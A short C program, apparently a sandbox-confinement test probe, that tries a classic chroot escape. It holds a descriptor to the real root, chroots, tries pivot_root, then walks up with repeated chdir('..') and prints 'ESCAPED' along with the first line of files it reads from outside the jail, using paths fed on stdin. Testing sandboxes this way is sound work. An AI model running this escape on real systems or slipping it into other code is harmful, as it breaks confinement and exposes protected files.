#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(void) {
  char kind[16], path[512], up[600];
  mkdir("/tmp/cell", 0755);
  int outside = open("/", O_RDONLY | O_DIRECTORY);
  if (chroot("/tmp/cell") == 0) puts("ESCAPED: chroot");
  if (syscall(SYS_pivot_root, "/tmp", "/tmp/cell") == 0) puts("ESCAPED: pivot_root");
  if (fchdir(outside) < 0) return 1;
  for (int i = 0; i < 64; i++) {
    if (chdir("..") < 0) return 1;
  }
  while (scanf("%15s %511[^\n]", kind, path) == 2) {
    if (kind[0] != 'f') continue;
    snprintf(up, sizeof up, ".%s", path);
    FILE *file = fopen(up, "r");
    if (file != NULL && fgets(path, sizeof path, file) != NULL) printf("ESCAPED: %s\n", path);
  }
  return 0;
}
